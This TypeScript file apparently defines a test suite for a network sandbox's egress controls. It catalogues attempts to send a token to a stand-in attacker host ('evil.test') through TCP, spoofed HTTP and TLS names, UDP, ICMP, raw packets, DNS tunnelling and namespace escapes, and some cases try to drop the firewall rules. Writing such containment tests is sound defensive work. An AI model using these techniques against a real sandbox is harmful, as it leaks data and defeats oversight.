import {
  ask,
  BY_NAME,
  POLICIES,
  request,
  STRICT,
  type Attack,
  type Attempt,
  type RuntimeName,
  type Scene,
} from "./attacks.ts";
import { ANYTHING_PORT } from "./lab-plan.ts";

const TYPES = { A: 1, NULL: 10, TXT: 16, AAAA: 28, ANY: 255 };
const SO_MARK = [1, 36, 1];
const SO_BINDTODEVICE = [1, 25];
const IP_TRANSPARENT = [0, 19, 1];
const UDP_LITE = 136;

/** What leads to the attacker's servers, by whatever a program can send. */
export function attacksOutward(scene: Scene, runtime: RuntimeName, device: string): Attack[] {
  const { plan } = scene;
  // A sandbox on the embedded runtime sends nothing but TCP and DNS; one of Docker has no IPv6, and no packets of its own making.
  const onDocker = runtime === "docker" ? "none" : "host";
  const onEmbedded = runtime === "embedded" ? "none" : "host";
  const attacker = (name: string, attempt: Attempt, more: Partial<Attack> = {}): Attack => {
    return { name, attempt, reaches: [plan.attacker, plan.attacker6], allowed: "none", forbidden: STRICT, ...more };
  };
  const withOptions = (...options: unknown[]) => ask(plan.attacker, 22, "TOKEN", { options });
  const tcp = [
    ...[22, 25, 853, 8080].map((port) => attacker(`TCP ${port}`, ask(plan.attacker, port, "TOKEN"))),
    attacker("HTTP", ask(plan.attacker, 80, request("evil.test"))),
    attacker("HTTP without a Host", ask(plan.attacker, 80, "GET /TOKEN HTTP/1.0\r\n\r\n")),
    attacker("HTTP, Host is its address", ask(plan.attacker, 80, request(plan.attacker))),
    attacker("HTTP, Host is an allowed name", ask(plan.attacker, 80, request("allowed.test"))),
    attacker(
      "HTTP on another port, Host is an allowed name",
      ask(plan.attacker, ANYTHING_PORT, request("allowed.test")),
    ),
    attacker("TLS", { op: "tls", host: plan.attacker, port: 443, name: "evil.test", path: "/TOKEN" }),
    attacker("TLS with an allowed name", {
      op: "tls",
      host: plan.attacker,
      port: 443,
      name: "allowed.test",
      path: "/TOKEN",
    }),
    attacker("TLS without a name", { op: "tls", host: plan.attacker, port: 443, path: "/TOKEN" }),
    attacker("IPv6", ask(plan.attacker6, 22, "TOKEN"), { allowed: onEmbedded }),
    attacker("IPv6, HTTP with an allowed name", ask(plan.attacker6, 80, request("allowed.test")), {
      allowed: onEmbedded,
    }),
    attacker("IPv4 as IPv6", ask(`::ffff:${plan.attacker}`, 22, "TOKEN", { literal: true })),
    attacker("from port 53", ask(plan.attacker, 22, "TOKEN", { source: 53 })),
    attacker("from port 80", ask(plan.attacker, 22, "TOKEN", { source: 80 })),
    attacker("with the hello of TCP", ask(plan.attacker, 22, "TOKEN", { fast_open: true })),
    attacker("with a mark", withOptions(SO_MARK), { allowed: "host" }),
    attacker("transparently", withOptions(IP_TRANSPARENT), { allowed: "host" }),
    ...["eth0", "lo"].map((name) =>
      attacker(`by interface ${name}`, withOptions([...SO_BINDTODEVICE, name]), {
        allowed: "host",
        control: withOptions([...SO_BINDTODEVICE, device]),
        isSilent: true,
      }),
    ),
    attacker("a greeting of SSH to an allowed server", ask(plan.allowed, 22, "SSH-2.0-TOKEN\r\n"), {
      reaches: [plan.allowed],
      allowed: "ranges",
      forbidden: BY_NAME,
    }),
    attacker(
      "by every port that listens in here",
      { op: "every_tcp", sends: ["TOKEN", request("evil.test"), request(plan.attacker)] },
      { reaches: "anywhere", allowed: "host", control: ask(plan.attacker, 80, request("evil.test")) },
    ),
    attacker("in a user namespace of its own", under(["unshare", "-Ur"], ask(plan.attacker, 22, "TOKEN")), {
      allowed: "host",
    }),
    attacker("in a network of its own", under(["unshare", "-Urn"], ask(plan.attacker, 22, "TOKEN")), {
      allowed: "host",
      control: under(["unshare", "-Ur"], ask(plan.attacker, 22, "TOKEN")),
    }),
  ];
  const udp = [123, 443, 5353, 9999].map((port) => {
    return attacker(`UDP ${port}`, { op: "udp", host: plan.attacker, port, send: "TOKEN" }, { allowed: onDocker });
  });
  const otherPackets = [
    attacker(
      "UDP from port 53",
      { op: "udp", host: plan.attacker, port: 443, send: "TOKEN", source: 53 },
      { allowed: onDocker },
    ),
    attacker(
      "UDP to an allowed server",
      { op: "udp", host: plan.allowed, port: 443, send: "TOKEN" },
      {
        reaches: [plan.allowed],
        allowed: runtime === "docker" ? "ranges" : "host",
        forbidden: BY_NAME,
      },
    ),
    attacker("IPv6, UDP", { op: "udp", host: plan.attacker6, port: 443, send: "TOKEN" }, { allowed: "host" }),
  ];
  const packets = { by: "packets", isSilent: true, allowed: "host" } as const;
  const mine = { host: plan.attacker, port: 443, from: plan.host, send: "TOKEN" };
  const raw = [
    attacker(
      "ICMP",
      { op: "ping", host: plan.attacker, send: "TOKEN" },
      {
        ...packets,
        control: { op: "ping", host: plan.attacker, send: "TOKEN", raw: true },
      },
    ),
    attacker("ICMP of its own making", { op: "ping", host: plan.attacker, send: "TOKEN", raw: true }, packets),
    attacker("UDP-Lite", { op: "udp", host: plan.attacker, port: 443, send: "TOKEN", protocol: UDP_LITE }, packets),
    attacker("a packet of its own making", { op: "raw", ...mine }, packets),
    attacker(
      "frames of its own making",
      { op: "frames", ...mine },
      {
        ...packets,
        control: { op: "frames", ...mine, interfaces: [device] },
      },
    ),
  ];
  return [...tcp, ...udp, ...otherPackets, ...raw, ...dnsTunnels(scene), ...otherWays()];
}

/** A name is a message to whoever answers for it, whichever server passes it on. */
function dnsTunnels({ plan }: Scene): Attack[] {
  const tunnel = (name: string, attempt: Attempt): Attack => {
    return { name: `DNS: ${name}`, attempt, reaches: "anywhere", allowed: "all", forbidden: STRICT };
  };
  const fromHost = (name: string, attempt: Attempt): Attack => {
    const control = { ...attempt, op: "dns", server: plan.attacker };
    return { ...tunnel(name, attempt), allowed: "host", control };
  };
  const below = { name: "TOKEN.evil.test" };
  return [
    tunnel("A", { op: "own_dns", ...below }),
    tunnel("A by TCP", { op: "own_dns", ...below, tcp: true }),
    tunnel("AAAA", { op: "own_dns", ...below, type: TYPES.AAAA }),
    ...[plan.attacker, plan.resolver].flatMap((server) => [
      tunnel(`straight to ${server}`, { op: "dns", server, ...below }),
      tunnel(`straight to ${server} by TCP`, { op: "dns", server, ...below, tcp: true }),
    ]),
    // What a gate never asks for anybody.
    ...(["NULL", "TXT", "ANY"] as const).flatMap((name) => [
      fromHost(name, { op: "own_dns", ...below, type: TYPES[name] }),
      fromHost(`${name} by TCP`, { op: "own_dns", ...below, type: TYPES[name], tcp: true }),
    ]),
    fromHost("TXT straight to the attacker", { op: "dns", server: plan.attacker, ...below, type: TYPES.TXT }),
    tunnel("from port 53", { op: "dns", server: plan.attacker, ...below, source: 53 }),
    tunnel("to every port that listens in here", { op: "every_udp", ...below }),
    tunnel("deep down", { op: "own_dns", name: `a.b.c.d.e.f.${"x".repeat(60)}.TOKEN.evil.test` }),
    tunnel("below a name that is allowed itself only", { op: "own_dns", name: "TOKEN.allowed.test" }),
    tunnel("a name that only ends alike", { op: "own_dns", name: "TOKENallowed.test" }),
    tunnel("by the C library", { op: "tcp", host: "TOKEN.evil.test", port: 80, send: request("TOKEN.evil.test") }),
  ];
}

function under(program: string[], attempt: Attempt): Attempt {
  return { op: "under", program, attempt };
}

/** Not out, but at the rules themselves. */
function otherWays(): Attack[] {
  const rules = { reaches: ["rules"], allowed: "host", forbidden: POLICIES } as const;
  const drop = { op: "drop_rules" };
  // On this machine in a network that is nobody's.
  const control = under(["unshare", "--net", "sh", "-c", 'nft add table inet sandbar && exec "$@"', "sh"], drop);
  return [
    { ...rules, name: "rules: taken away", attempt: drop, control },
    { ...rules, name: "rules: taken away in a user namespace", attempt: under(["unshare", "-Ur"], drop), control },
  ];
}
